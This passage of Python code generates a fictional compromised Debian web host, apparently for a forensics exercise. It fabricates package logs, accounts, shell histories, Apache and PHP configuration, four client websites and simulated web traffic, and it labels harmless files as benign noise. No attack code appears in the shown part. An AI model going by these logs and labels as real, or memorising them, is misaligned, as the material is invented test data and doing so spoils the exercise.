            mtime=build,
        )
        status.append(packages.status_entry(pkg))
    tree.write("/var/lib/dpkg/status", "\n".join(status).encode(), APT_UPGRADE + 47 * SECOND + tree.ns())
    tree.write("/var/lib/dpkg/status-old", "\n".join(status).encode(), APT_UPGRADE + 46 * SECOND + tree.ns())
    # Debian's usrmerge symlinks and alternatives that point into the package files
    tree.symlink("/usr/bin/sh", "dash", INSTALL + 95 * SECOND + tree.ns())
    tree.symlink(
        "/usr/lib64/ld-linux-x86-64.so.2",
        "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
        INSTALL + 91 * SECOND + tree.ns(),
    )
    tree.symlink("/etc/alternatives/php", "/usr/bin/php8.2", STACK_INSTALL + 30 * SECOND + tree.ns())
    tree.symlink("/usr/bin/php", "/etc/alternatives/php", STACK_INSTALL + 30 * SECOND + tree.ns())
    tree.symlink("/usr/bin/pkill", "pgrep", INSTALL + 96 * SECOND + tree.ns())

    # apt's own records: the last two runs
    history = (
        f"\nStart-Date: {clock.plain(KERNEL_UPGRADE).replace(' ', '  ')}\n"
        "Commandline: apt upgrade\nRequested-By: thomas (1000)\n"
        f"Install: linux-image-{KERNEL}:amd64 (6.1.153-1, automatic)\n"
        "Upgrade: linux-image-amd64:amd64 (6.1.148-1, 6.1.153-1)\n"
        f"End-Date: {clock.plain(KERNEL_UPGRADE + 74 * SECOND).replace(' ', '  ')}\n"
        f"\nStart-Date: {clock.plain(APT_UPGRADE).replace(' ', '  ')}\n"
        "Commandline: apt upgrade\nRequested-By: thomas (1000)\nUpgrade: "
        + ", ".join(f"{p.name}:amd64 ({p.old_version}, {p.version})" for p in packages.PACKAGES if p.old_version)
        + f"\nEnd-Date: {clock.plain(APT_UPGRADE + 47 * SECOND).replace(' ', '  ')}\n"
    ).encode()
    node = tree.write(
        "/var/log/apt/history.log",
        history,
        _day(2026, 11, 1, 0, 0, 4) + tree.ns(),
        done=APT_UPGRADE + 47 * SECOND + tree.ns(),
    )
    node.changes.append(APT_UPGRADE + 47 * SECOND + 5 * MS)
    term = (
        f"Log started: {clock.plain(APT_UPGRADE)}\n"
        + "".join(
            f"Preparing to unpack .../{p.name}_{p.version}_amd64.deb ...\nUnpacking {p.name}:amd64 "
            f"({p.version}) over ({p.old_version}) ...\n"
            for p in packages.PACKAGES
            if p.old_version
        )
        + "".join(f"Setting up {p.name}:amd64 ({p.version}) ...\n" for p in packages.PACKAGES if p.old_version)
        + "Processing triggers for libc-bin (2.36-9+deb12u13) ...\nProcessing triggers for man-db (2.11.2-2) ...\n"
        + f"Log ended: {clock.plain(APT_UPGRADE + 47 * SECOND)}\n\n"
    ).encode()
    tree.write(
        "/var/log/apt/term.log",
        term,
        _day(2026, 11, 1, 0, 0, 4) + tree.ns(),
        done=APT_UPGRADE + 47 * SECOND + tree.ns(),
        gid=system.GID_ADM,
        mode=0o640,
    )
    dpkg_lines = [f"{clock.plain(APT_UPGRADE + 2 * SECOND)} startup archives unpack"]
    t = APT_UPGRADE + 9 * SECOND
    for p in packages.PACKAGES:
        if p.old_version:
            dpkg_lines.append(f"{clock.plain(t)} upgrade {p.name}:amd64 {p.old_version} {p.version}")
            dpkg_lines.append(f"{clock.plain(t)} status half-configured {p.name}:amd64 {p.old_version}")
            dpkg_lines.append(f"{clock.plain(t)} status unpacked {p.name}:amd64 {p.version}")
            t += 2 * SECOND
    dpkg_lines.append(f"{clock.plain(t + 10 * SECOND)} startup packages configure")
    for p in packages.PACKAGES:
        if p.old_version:
            dpkg_lines.append(f"{clock.plain(t + 11 * SECOND)} configure {p.name}:amd64 {p.version} <none>")
            dpkg_lines.append(f"{clock.plain(t + 11 * SECOND)} status installed {p.name}:amd64 {p.version}")
    tree.write(
        "/var/log/dpkg.log",
        ("\n".join(dpkg_lines) + "\n").encode(),
        _day(2026, 11, 1, 0, 0, 4) + tree.ns(),
        done=APT_UPGRADE + 47 * SECOND,
    )
    for pkg in packages.PACKAGES:
        if pkg.old_version:
            for path, *_rest in pkg.files:
                world.noise.append(
                    BenignNoise(
                        path,
                        "package-update",
                        f"apt upgrade on {clock.plain(APT_UPGRADE)} replaced it ({pkg.name} {pkg.version})",
                    )
                )


# --------------------------------------------------------------------------- accounts


def _accounts(world: _World) -> None:
    tree, rng = world.tree, world.rng
    thomas_keys = [_ed25519(rng, "thomas@thinkpad-t14"), _ed25519(rng, "thomas@buero-pc")]
    anna_key = _ed25519(rng, "anna.wagner@macbook")
    world.keys = {"thomas": thomas_keys[0], "thomas-office": thomas_keys[1], "anna": anna_key}
    root_pw, thomas_pw, anna_pw = _fake_hash(rng), _fake_hash(rng), _fake_hash(rng)
    accounts = (
        system.Account("root", 0, 0, "root", "/root", "/bin/bash", root_pw),
        *system.SYSTEM_ACCOUNTS,
        system.Account("thomas", THOMAS, THOMAS, "Thomas Becker,,,", "/home/thomas", "/bin/bash", thomas_pw),
        system.Account("anna", ANNA, ANNA, "Anna Wagner,,,", "/home/anna", "/bin/bash", anna_pw),
    )
    without_anna = tuple(a for a in accounts if a.name != "anna")
    days = {"*": 19765, "thomas": 20514, "anna": 19849}
    t = ANNA_CREATED
    tree.write("/etc/passwd-", system.passwd(without_anna), STACK_INSTALL + 12 * SECOND + tree.ns())
    tree.write("/etc/passwd", system.passwd(accounts), t + tree.ns())
    tree.write("/etc/group-", system.group().replace(b"anna:x:1001:\n", b""), STACK_INSTALL + 12 * SECOND + tree.ns())
    tree.write("/etc/group", system.group(), t + tree.ns())
    tree.write("/etc/gshadow", system.gshadow(), t + tree.ns(), gid=system.GID_SHADOW, mode=0o640)
    shadow_changed = _day(2026, 3, 2, 10, 41, 17) + tree.ns()
    tree.write(
        "/etc/shadow-", system.shadow(without_anna, days), ANNA_CREATED + tree.ns(), gid=system.GID_SHADOW, mode=0o640
    )
    tree.write("/etc/shadow", system.shadow(accounts, days), shadow_changed, gid=system.GID_SHADOW, mode=0o640)

    # homes
    tree.write(
        "/root/.bashrc", system.ROOT_BASHRC, INSTALL + 200 * SECOND + tree.ns(), mtime=_utc("2023-01-01 18:59:21")
    )
    tree.write(
        "/root/.profile", system.ROOT_PROFILE, INSTALL + 200 * SECOND + tree.ns(), mtime=_utc("2023-01-01 18:59:21")
    )
    tree.mkdir("/root/.ssh", INSTALL + 20 * MINUTE + tree.ns(), mode=0o700)
    tree.write(
        "/root/.ssh/authorized_keys", (thomas_keys[0][0] + "\n").encode(), INSTALL + 20 * MINUTE + tree.ns(), mode=0o600
    )
    tree.write(
        "/root/.my.cnf",
        f"[client]\nuser=root\npassword={_secret(rng, 18)}\n".encode(),
        STACK_INSTALL + 8 * MINUTE + tree.ns(),
        mode=0o600,
    )
    root_hist = tree.write(
        "/root/.bash_history",
        system.ROOT_HISTORY,
        _day(2024, 2, 12, 11, 2, 9) + tree.ns(),
        mode=0o600,
        done=APT_UPGRADE + 55 * SECOND + tree.ns(),
    )
    root_hist.changes.append(APT_UPGRADE + 55 * SECOND + 100 * US)
    tree.write(
        "/root/.lesshst",
        b'.less-history-file:\n.search\n"AH00\n',
        _day(2025, 11, 28, 15, 20, 1) + tree.ns(),
        mode=0o600,
    )
    for user, uid, created, keys, history in (
        ("thomas", THOMAS, INSTALL + 150 * SECOND, [k for k, _ in thomas_keys], _THOMAS_HISTORY),
        ("anna", ANNA, ANNA_CREATED, [anna_key[0]], _ANNA_HISTORY),
    ):
        home = f"/home/{user}"
        tree.mkdir(home, created + tree.ns(), uid=uid, gid=uid, mode=0o700)
        for name, data in (
            (".bashrc", system.BASHRC_SKEL),
            (".profile", system.PROFILE_SKEL),
            (".bash_logout", system.BASH_LOGOUT_SKEL),
        ):
            tree.write(
                f"{home}/{name}",
                data,
                created + 200 * MS + tree.small(),
                uid=uid,
                gid=uid,
                mtime=_utc("2023-01-01 18:59:21"),
            )
        tree.mkdir(f"{home}/.ssh", created + 4 * MINUTE + tree.ns(), uid=uid, gid=uid, mode=0o700)
        tree.write(
            f"{home}/.ssh/authorized_keys",
            ("\n".join(keys) + "\n").encode(),
            created + 4 * MINUTE + tree.ns(),
            uid=uid,
            gid=uid,
            mode=0o600,
        )
        world.secrets[f"history:{user}"] = history
    tree.write(
        "/home/anna/.gitconfig",
        b"[user]\n\tname = Anna Wagner\n\temail = anna@example-client.de\n[pull]\n\trebase = true\n",
        ANNA_CREATED + 6 * MINUTE + tree.ns(),
        uid=ANNA,
        gid=ANNA,
    )
    tree.write(
        "/home/thomas/.selected_editor",
        b'# Generated by /usr/bin/select-editor\nSELECTED_EDITOR="/usr/bin/vim.basic"\n',
        INSTALL + 31 * MINUTE + tree.ns(),
        uid=THOMAS,
        gid=THOMAS,
    )


_THOMAS_HISTORY = """sudo -i
ls -la /var/www
cd /var/www/shop.example-client.de/htdocs
git status
ls -la images | tail
sudo tail -n 50 /var/log/apache2/shop.example-client.de_error.log
df -h
free -m
sudo systemctl reload apache2
sudo apt update
sudo apt upgrade
uptime
ls -la /var/www/blog.example-client.de/htdocs/wp-content/uploads/2026/11
sudo -u www-data php /var/www/shop.example-client.de/htdocs/cron/sitemap.php
sudo tail -f /var/log/apache2/shop.example-client.de_access.log
htop
exit
"""

_ANNA_HISTORY = """cd /var/www/kanzlei-schneider.example/htdocs
ls
vim kontakt.php
php -l kontakt.php
cd /var/www/shop.example-client.de/htdocs/admin
ls -la
php -l upload.php
tail /var/log/apache2/kanzlei-schneider.example_error.log
exit
"""


# --------------------------------------------------------------------------- apache and php


def _apache_and_php(world: _World) -> None:
    tree = world.tree
    t = STACK_INSTALL
    build = _utc("2025-07-29 18:44:55")
    for sub in ("sites-available", "sites-enabled", "mods-available", "mods-enabled", "conf-available", "conf-enabled"):
        tree.mkdirs(f"/etc/apache2/{sub}", t + tree.small())
    tree.write("/etc/apache2/apache2.conf", system.APACHE2_CONF, t + tree.ns(), mtime=build)
    tree.write("/etc/apache2/ports.conf", system.PORTS_CONF, t + tree.ns(), mtime=build)
    tree.write("/etc/apache2/envvars", system.APACHE_ENVVARS, t + tree.ns(), mtime=build)
    tree.write("/etc/apache2/conf-available/security.conf", system.APACHE_SECURITY_CONF, t + tree.ns(), mtime=build)
    tree.symlink("/etc/apache2/conf-enabled/security.conf", "../conf-available/security.conf", t + tree.ns())
    for mod in (
        "rewrite",
        "ssl",
        "headers",
        "php8.2",
        "mpm_prefork",
        "socache_shmcb",
        "mime",
        "dir",
        "alias",
        "deflate",
        "setenvif",
        "status",
        "authz_core",
        "authz_host",
    ):
        module, library = f"{mod}_module", f"mod_{mod}.so"
        if mod == "php8.2":
            module, library = "php_module", "libphp8.2.so"
        tree.write(
            f"/etc/apache2/mods-available/{mod}.load",
            f"LoadModule {module} /usr/lib/apache2/modules/{library}\n".encode(),
            t + tree.ns(),
            mtime=build,
        )
        tree.symlink(
            f"/etc/apache2/mods-enabled/{mod}.load", f"../mods-available/{mod}.load", t + 5 * MINUTE + tree.ns()
        )
    tree.write("/etc/apache2/sites-available/000-default.conf", system.DEFAULT_VHOST, t + tree.ns(), mtime=build)
    tree.symlink("/etc/apache2/sites-enabled/000-default.conf", "../sites-available/000-default.conf", t + tree.ns())
    for domain, when, aliases in (
        (web.TSV, TSV_DEPLOY, ("www." + web.TSV,)),
        (web.KANZLEI, KANZLEI_DEPLOY, ("www." + web.KANZLEI,)),
        (web.BLOG, BLOG_INSTALL, ()),
        (web.SHOP, SHOP_LAUNCH, ("www." + web.SHOP,)),
    ):
        made = when - 2 * HOUR + tree.ns()
        tree.write(
            f"/etc/apache2/sites-available/{domain}.conf",
            system.vhost(domain, web.docroot(domain), aliases=aliases),
            made,
        )
        tree.symlink(
            f"/etc/apache2/sites-enabled/{domain}.conf",
            f"../sites-available/{domain}.conf",
            made + 3 * MINUTE + tree.ns(),
        )
        _letsencrypt(world, domain, made + 9 * MINUTE)
    tree.mkdirs("/etc/systemd/system/apache2.service.d", _day(2025, 4, 2, 11, 26, 40))
    tree.write(
        "/etc/systemd/system/apache2.service.d/override.conf",
        system.APACHE_OVERRIDE,
        _day(2025, 4, 2, 11, 26, 40) + tree.ns(),
    )
    tree.mkdirs("/usr/lib/systemd/system", t)
    tree.write("/usr/lib/systemd/system/apache2.service", system.APACHE_UNIT, t + tree.ns(), mtime=build)
    tree.symlink(
        "/etc/systemd/system/multi-user.target.wants/apache2.service",
        "/lib/systemd/system/apache2.service",
        t + tree.ns(),
    )
    tree.write("/etc/logrotate.d/apache2", system.LOGROTATE_APACHE, _day(2025, 9, 15, 14, 9, 27) + tree.ns())
    tree.mkdirs("/var/log/apache2", t, gid=system.GID_ADM, mode=0o750)
    tree.nodes["/var/log/apache2"].mode = 0o750
    tree.nodes["/var/log/apache2"].gid = system.GID_ADM
    tree.mkdirs("/var/www/html", t)
    tree.write("/var/www/html/index.html", web.DEFAULT_INDEX, t + tree.ns())
    # php
    for sapi in ("apache2", "cli"):
        tree.mkdirs(f"/etc/php/8.2/{sapi}/conf.d", t + tree.small())
    tree.write("/etc/php/8.2/cli/php.ini", system.php_ini("cli"), t + tree.ns(), mtime=_utc("2025-07-04 09:12:40"))
    tree.write("/etc/php/8.2/apache2/php.ini", system.php_ini("apache2"), PHP_TUNING + tree.ns())
    tree.write(
        "/etc/cron.d/php",
        system.CRON_D_PHP.replace(b"@PHP_VERSION@", b""),
        t + tree.ns(),
        mtime=_utc("2022-12-27 10:16:52"),
    )
    tree.mkdirs("/var/lib/php", t)
    tree.mkdir("/var/lib/php/sessions", t + tree.ns(), mode=0o1733)
    tree.write("/etc/cron.d/shop", system.CRON_D_SHOP, SHOP_LAUNCH + 3 * HOUR + tree.ns())
    # the timers' stamps; mtimes are set by _host_activity
    for timer in (
        "apt-daily",
        "apt-daily-upgrade",
        "logrotate",
        "man-db",
        "phpsessionclean",
        "systemd-tmpfiles-clean",
        "e2scrub_all",
    ):
        tree.write(f"/var/lib/systemd/timers/stamp-{timer}.timer", b"", INSTALL + 30 * MINUTE + tree.ns())


def _letsencrypt(world: _World, domain: str, t: int) -> None:
    tree = world.tree
    renewals = 1 + (SNAPSHOT - DAY - t) // (60 * DAY)
    tree.mkdirs(f"/etc/letsencrypt/live/{domain}", t, mode=0o700)
    tree.mkdirs(f"/etc/letsencrypt/archive/{domain}", t, mode=0o700)
    # certbot.timer renews every 60 days; the files of the latest renewal are current
    last = t + (renewals - 1) * 60 * DAY + tree.ns()
    for name in ("cert", "chain", "fullchain", "privkey"):
        label = "PRIVATE KEY" if name == "privkey" else "CERTIFICATE"
        tree.write(
            f"/etc/letsencrypt/archive/{domain}/{name}{renewals}.pem",
            _pem(world.rng, label, 180),
            last + tree.small(),
            mode=0o600 if name == "privkey" else 0o644,
        )
        tree.symlink(
            f"/etc/letsencrypt/live/{domain}/{name}.pem",
            f"../../archive/{domain}/{name}{renewals}.pem",
            last + tree.small(1_000, 9_000),
        )
        tree.nodes[f"/etc/letsencrypt/live/{domain}/{name}.pem"].changes.append(last + 20 * MS)


# --------------------------------------------------------------------------- sites


def _deploy(
    world: _World,
    root: str,
    files: Mapping[str, bytes],
    t: int,
    uid: int,
    gid: int,
    *,
    edited_days: int = 30,
    chown_at: int | None = None,
) -> int:
    """rsync -a from a developer's laptop: new inodes now, mtimes from the laptop (with ns)."""
    tree, rng = world.tree, world.rng
    for rel in sorted(files):
        path = f"{root}/{rel}"
        tree.mkdirs(str(PurePosixPath(path).parent), t, uid, gid)
        mtime = t - rng.randrange(HOUR, edited_days * DAY) - tree.ns()
        node = tree.write(path, files[rel], t, uid=uid, gid=gid, mtime=mtime)
        node.changes.append(t + tree.small())
        if chown_at is not None:
            node.changes.append(chown_at + tree.small())
        t += tree.small(200, 3_000)
    return t


def _sites(world: _World) -> None:
    tree, rng = world.tree, world.rng
    # tsv: static, thomas
    root = web.docroot(web.TSV)
    tree.mkdirs(f"/var/www/{web.TSV}", TSV_DEPLOY - HOUR, THOMAS, THOMAS)
    files = {name: web.tsv_page(title, body) for name, (title, body) in web.TSV_PAGES.items()}
    files["css/tsv.css"] = web.TSV_CSS
    files["img/wappen.png"] = blobs.png(48, 48, "tsv-wappen")
    for n in range(1, 5):
        files[f"img/mannschaft-{n}.jpg"] = blobs.picture(f"tsv-{n}", 24, 16)
    _deploy(world, root, files, TSV_DEPLOY, THOMAS, THOMAS)
    # season update in October: termine and the membership form
    t = _day(2026, 10, 19, 20, 11, 5)
    tree.nodes[f"{root}/termine.html"].born = t
    tree.nodes[f"{root}/termine.html"].mods = [t + tree.small()]
    tree.nodes[f"{root}/termine.html"].fixed_mtime = t - 2 * DAY + tree.ns()
    tree.removed(root, t)
    tree.mkdir(f"{root}/downloads", t, THOMAS, THOMAS)
    tree.write(
        f"{root}/downloads/Beitrittserklärung 2026.pdf",
        blobs.pdf(
            "Beitrittserklärung 2026",
            ["TSV Musterstadt 1898 e.V.", "Beitrittserklärung", "Name, Vorname: ____________"],
        ),
        t + tree.small(),
        uid=THOMAS,
        gid=THOMAS,
        mtime=t - 5 * DAY + tree.ns(),
    )

    # kanzlei: PHP, anna
    root = web.docroot(web.KANZLEI)
    tree.mkdirs(f"/var/www/{web.KANZLEI}", KANZLEI_DEPLOY - HOUR, ANNA, 33)
    files = dict(web.KANZLEI_FILES)
    files["img/logo.png"] = blobs.png(64, 32, "kanzlei-logo")
    files["img/kanzlei.jpg"] = blobs.picture("kanzlei-raum", 40, 24)
    files["downloads/Vollmacht Mandant.pdf"] = blobs.pdf(
        "Vollmacht", ["Vollmacht", "Hiermit wird Kanzlei Schneider & Partner bevollmächtigt ..."]
    )
    files["downloads/Datenschutzhinweise Mandanten.pdf"] = blobs.pdf(
        "Datenschutz", ["Informationen nach Art. 13 DSGVO"]
    )
    _deploy(world, root, files, KANZLEI_DEPLOY + 3 * DAY, ANNA, 33)

    # blog: WordPress unpacked from the release zip (2-second resolution, no ns), then chowned
    root = web.docroot(web.BLOG)
    tree.mkdirs(f"/var/www/{web.BLOG}", BLOG_INSTALL - 30 * MINUTE, 0, 0)
    tree.mkdir(root, BLOG_INSTALL, WWW, WWW)
    zip_time = _utc("2025-09-30 17:46:12")
    t = _day(2025, 10, 1, 9, 3, 11) + tree.ns()  # last core update
    files = dict(web.BLOG_FILES)
    files["wp-config.php"] = web.wp_config(world.secrets["blog_db"], world.secrets["wp_salt"])
    for rel in sorted(files):
        path = f"{root}/{rel}"
        tree.mkdirs(str(PurePosixPath(path).parent), BLOG_INSTALL + tree.small(), WWW, WWW)
        mtime = zip_time - (len(rel) % 17) * 2 * SECOND
        born = (BLOG_INSTALL + 40 * SECOND) if rel in ("wp-config.php", ".htaccess") else t
        tree.write(
            path,
            files[rel],
            born + tree.small(),
            uid=WWW,
            gid=WWW,
            mtime=None if rel in ("wp-config.php", ".htaccess") else mtime,
        )
        t += tree.small(100, 900)
    uploads = f"{root}/wp-content/uploads"
    tree.mkdir(uploads, BLOG_INSTALL + 5 * MINUTE, WWW, WWW)
    for date, slug, _title in web.BLOG_POSTS:
        y, m, d = (int(x) for x in date.split("-"))
        when = local_ns(y, m, d, 19, 0) + rng.randrange(0, 2 * HOUR)
        if when >= APACHE_LOG_FROM:
            continue  # posts inside the log window are uploaded by the blog owner's traffic
        _wp_upload(world, f"{slug}-1.jpg", when)
    tree.mkdirs(f"{root}/wp-content/cache/supercache/{web.BLOG}", BLOG_INSTALL + DAY, WWW, WWW)
    tree.write(
        f"{root}/wp-content/wp-cache-config.php",
        b"<?php\n$cache_enabled = true;\n"
        b"$super_cache_enabled = true;\n$cache_max_time = 0;\n$wp_cache_preload_on = 1;\n"
        b"$wp_cache_preload_interval = 1440;\n",
        BLOG_INSTALL + DAY + tree.ns(),
        uid=WWW,
        gid=WWW,
    )

    # shop: PHP, www-data (chowned after each deploy so the upload folder is writable)
    root = web.docroot(web.SHOP)
    tree.mkdirs(f"/var/www/{web.SHOP}", SHOP_LAUNCH - DAY, 0, 0)
    files = dict(web.SHOP_FILES)
    files["includes/config.php"] = web.shop_config(world.secrets["shop_db"])
    upload = files.pop("admin/upload.php")
    tree.mkdir(root, SHOP_LAUNCH - DAY + tree.ns(), WWW, WWW)
    _deploy(world, root, files, SHOP_LAUNCH, WWW, WWW, edited_days=60, chown_at=SHOP_LAUNCH + 2 * MINUTE)
    # the upload feature, deployed by anna in June 2025
    node = tree.write(
        f"{root}/admin/upload.php",
        upload,
        UPLOAD_FEATURE + tree.ns(),
        uid=WWW,
        gid=WWW,
        mtime=UPLOAD_FEATURE - 40 * MINUTE + tree.ns(),
    )
    node.changes.append(UPLOAD_FEATURE + 70 * SECOND + tree.ns())
    # a later CSS/JS release (October) – newer inodes among the old ones
    for rel in ("css/shop.css", "js/shop.js"):
        asset = tree.nodes[f"{root}/{rel}"]
        asset.born = _day(2026, 10, 8, 17, 20, 3) + tree.ns()
        asset.mods = [asset.born + tree.small()]
        asset.fixed_mtime = asset.born - 3 * HOUR - tree.ns()
        asset.changes = [asset.born + 90 * SECOND]
        tree.removed(str(PurePosixPath(asset.path).parent), asset.born)
    images = f"{root}/images"
    tree.mkdir(images, SHOP_LAUNCH - HOUR, WWW, WWW)
    tree.write(
        f"{images}/logo.png", blobs.png(96, 48, "bergblick-logo"), SHOP_LAUNCH - HOUR + tree.ns(), uid=WWW, gid=WWW
    )
    # product photos uploaded through the admin over the months before the logs begin
    t = UPLOAD_FEATURE + DAY
    for name in web.SHOP_PRODUCTS:
        t += rng.randrange(5 * DAY, 25 * DAY)
        when = clock.day_start(t) + (9 + rng.randrange(8)) * HOUR + rng.randrange(HOUR)
        tree.write(f"{images}/{name}.jpg", blobs.picture(name, 30, 22), when, uid=WWW, gid=WWW)
        tree.removed("/tmp", when - 200 * MS)
    tree.mkdir(f"{images}/banner", SHOP_LAUNCH - HOUR + tree.ns(), WWW, WWW)
    tree.write(
        f"{images}/banner/winter-2026.jpg",
        blobs.picture("banner-winter", 60, 20),
        _day(2026, 11, 2, 10, 14, 51) + tree.ns(),
        uid=WWW,
        gid=WWW,
    )
    products = "".join(
        f"<url><loc>https://{web.SHOP}/product.php?id={1001 + i}</loc></url>" for i in range(len(web.SHOP_PRODUCTS))
    )
    sitemap = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/'
        f'sitemap/0.9">{products}</urlset>\n'
    ).encode()
    tree.write(f"{root}/sitemap.xml", sitemap, SHOP_LAUNCH + DAY + 2 * HOUR + 15 * MINUTE + tree.ns(), uid=WWW, gid=WWW)


def _wp_upload(world: _World, name: str, t: int, *, noise: str = "") -> list[str]:
    """WordPress media upload: the original plus the sizes it generates, within a second or so."""
    tree = world.tree
    moment = clock.to_local(t)
    folder = f"{web.docroot(web.BLOG)}/wp-content/uploads/{moment.year}"
    if folder not in tree:
        tree.mkdir(folder, t, WWW, WWW)
    folder = f"{folder}/{moment.month:02d}"
    if folder not in tree:
        tree.mkdir(folder, t, WWW, WWW)
    stem = name.rsplit(".", 1)[0]
    made = []
    born = t + 180 * MS + tree.small(1_000, 200_000)
    path = f"{folder}/{name}"
    tree.write(path, blobs.picture(stem, 48, 36), born, uid=WWW, gid=WWW, linked=born + 3 * MS)
    tree.removed("/tmp", born + 3 * MS)
    made.append(path)
    for w, h, cols, rows in ((150, 150, 19, 19), (300, 225, 38, 28), (768, 576, 48, 36)):
        born += tree.small(30_000, 160_000)
        path = f"{folder}/{stem}-{w}x{h}.jpg"
        tree.write(path, blobs.picture(f"{stem}-{w}", cols // 2, rows // 2), born, uid=WWW, gid=WWW)
        made.append(path)
    if noise:
        for path in made:
            world.noise.append(BenignNoise(path, "customer-upload", noise))
    return made


# --------------------------------------------------------------------------- traffic


def _site_profiles(world: _World) -> dict[str, Site]:
    tree = world.tree

    def sizes(domain: str) -> dict[str, int]:
        root = web.docroot(domain)
        out = {}
        for path, node in tree.nodes.items():
            if path.startswith(root + "/") and node.kind == "file":
                out[urllib.parse.quote(path[len(root) :])] = len(node.data)
        return out

    shop_images = tuple(f"/images/{n}.jpg" for n in web.SHOP_PRODUCTS)
    blog_images = tuple(
        urllib.parse.quote(p[len(web.docroot(web.BLOG)) :])
        for p in sorted(tree.nodes)
        if p.startswith(f"{web.docroot(web.BLOG)}/wp-content/uploads/") and p.endswith("-300x225.jpg")
    )
    posts = tuple((f"/{d.replace('-', '/')}/{slug}/", 3.0) for d, slug, _ in web.BLOG_POSTS)
    return {
        web.SHOP: Site(
            web.SHOP,
            (
                ("/", 30),
                *((f"/product.php?id={1001 + i}", 2.0) for i in range(len(web.SHOP_PRODUCTS))),
                ("/category.php?c=rucksaecke", 5),
                ("/category.php?c=zelte", 4),
                ("/category.php?c=bekleidung", 5),
                ("/search.php?q=zelt", 1),
                ("/search.php?q=schlafsack", 1),
                ("/impressum.php", 1),
                ("/agb.php", 1),
                ("/datenschutz.php", 1),
            ),
            ("/css/shop.css?v=14", "/js/shop.js?v=14", "/images/logo.png"),
            shop_images,
            36,
            28,
            True,
            22,
            True,
            sizes(web.SHOP),
            2_611,
        ),
        web.BLOG: Site(
            web.BLOG,
            (("/", 30), *posts, ("/feed/", 4), ("/category/allgemein/", 3), ("/2026/11/", 2)),
            ("/wp-content/themes/twentytwentyfour/style.css?ver=1.3", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"),
            blog_images,
            22,
            20,
            True,
            20,
            True,
            sizes(web.BLOG),
            9_114,
        ),
        web.KANZLEI: Site(
            web.KANZLEI,
            (
                ("/", 30),
                ("/team.php", 8),
                ("/rechtsgebiete.php", 10),
                ("/kontakt.php", 8),
                ("/impressum.php", 3),
                ("/datenschutz.php", 2),
                ("/downloads/Vollmacht%20Mandant.pdf", 2),
                ("/downloads/Datenschutzhinweise%20Mandanten.pdf", 1),
            ),
            ("/css/kanzlei.css", "/img/logo.png"),
            ("/img/kanzlei.jpg",),
            12,
            3,
            False,
            12,
            False,
            sizes(web.KANZLEI),
            196,
        ),
        web.TSV: Site(
            web.TSV,
            (
                ("/", 30),
                ("/index.html", 5),
                ("/verein.html", 6),
                ("/termine.html", 12),
                ("/kontakt.html", 4),
                ("/impressum.html", 1),
                ("/downloads/Beitrittserkl%C3%A4rung%202026.pdf", 3),
            ),
            ("/css/tsv.css", "/img/wappen.png"),
            tuple(f"/img/mannschaft-{n}.jpg" for n in range(1, 5)),
            8,
            11,
            True,
            10,
            False,
            sizes(web.TSV),
            196,
        ),
    }


def _benign_traffic(world: _World) -> None:
    rng = _rng(world.seed, "traffic")
    gen = traffic.Traffic(rng, 1_000_000)
    sites = _site_profiles(world)
    days = _days(APACHE_LOG_FROM, NETWORK_CUT)
    scan_status = {
        web.SHOP: {"/admin/": 302, "/server-status": 403, "/.git/config": 403, "/": 200},
        web.BLOG: {"/wp-login.php": 200, "/xmlrpc.php": 405, "/server-status": 403, "/": 200},
        web.KANZLEI: {"/server-status": 403, "/": 200},
        web.TSV: {"/server-status": 403, "/": 200},
    }
    for domain, site in sites.items():
        hits = list(gen.visits(site, days))
        hits += gen.crawlers(site, days)
        hits += gen.scanners(site, days, 2.5, scan_status[domain])
        if domain == web.SHOP:
            hits += gen.monitor(site, APACHE_LOG_FROM, NETWORK_CUT, 30 * MINUTE)
            hits += _cart_flows(rng, gen, hits)
        world.hits.setdefault(domain, []).extend(hits)
    world.hits.setdefault("", []).extend(gen.scanners(None, days, 6, {"/": 200}, not_found_size=196))
    _shop_owner(world, rng, gen, days)
    _blog_owner(world, rng, gen, days)
    _wordpress_self(world, rng, days)
    # nothing reaches the host after the provider cut it off
    for domain in world.hits:
        world.hits[domain] = [h for h in world.hits[domain] if h.time_ns < NETWORK_CUT or h.actor == "attacker"]


def _cart_flows(rng: random.Random, gen: traffic.Traffic, hits: list[Hit]) -> list[Hit]:
    """Some shop visitors put something in the cart; a few check out. These start PHP sessions."""
    out: list[Hit] = []
    last_of_visit: dict[int, Hit] = {}
    for hit in hits:
        if hit.actor == "visitor" and hit.target.startswith("/product.php"):
            last_of_visit[hit.visit] = hit
    for hit in last_of_visit.values():
        if rng.random() > 0.22:
            continue
        t = hit.time_ns + rng.randrange(15, 90) * SECOND + rng.randrange(SECOND)
        url = f"https://{web.SHOP}{hit.target}"
        out.append(Hit(t, hit.ip, "POST", "/cart.php", 302, 268, url, hit.agent, "visitor", hit.visit))
        out.append(
            Hit(
                t + 180 * MS,
                hit.ip,
                "GET",
                "/cart.php",
                200,
                6_842 + rng.randrange(300),
                url,
                hit.agent,
                "visitor",
                hit.visit,
            )
        )
        if rng.random() < 0.35:
            t += rng.randrange(20, 120) * SECOND
            cart = f"https://{web.SHOP}/cart.php"
            out.append(
                Hit(
                    t,
                    hit.ip,
                    "GET",
                    "/checkout.php",
                    200,
                    7_310 + rng.randrange(200),
                    cart,
                    hit.agent,
                    "visitor",
                    hit.visit,
                )
            )
            t += rng.randrange(60, 300) * SECOND
            number = f"B-2026-{rng.randrange(10_000, 99_999)}"
            checkout = f"https://{web.SHOP}/checkout.php"
            out.append(Hit(t, hit.ip, "POST", "/checkout.php", 302, 301, checkout, hit.agent, "visitor", hit.visit))
            out.append(
                Hit(
                    t + 400 * MS,
                    hit.ip,
                    "GET",
                    f"/checkout.php?done={number}",
                    200,
                    5_120,
                    checkout,
                    hit.agent,
                    "visitor",
                    hit.visit,
                )
            )
    return out


_NEW_PRODUCTS = (
    "daunenjacke-alpin",
    "schneeschuhe-tour",
    "lawinenschaufel",
    "lvs-geraet-3ant",
    "sonde-240",
    "thermoskanne-075",
    "skitourenfell",
    "softshellhose",
    "buff-merino",
    "stirnband-fleece",
    "winterzelt-4s",
    "biwaksack",
    "gletscherbrille",
    "steigeisen-c2",
    "pickel-tour",
    "helm-leicht",
    "handwaermer",
    "tourenrucksack-30",
)


def _shop_owner(world: _World, rng: random.Random, gen: traffic.Traffic, days: list[int]) -> None:
    """The shop's owner manages orders on workdays and uploads new product photos."""
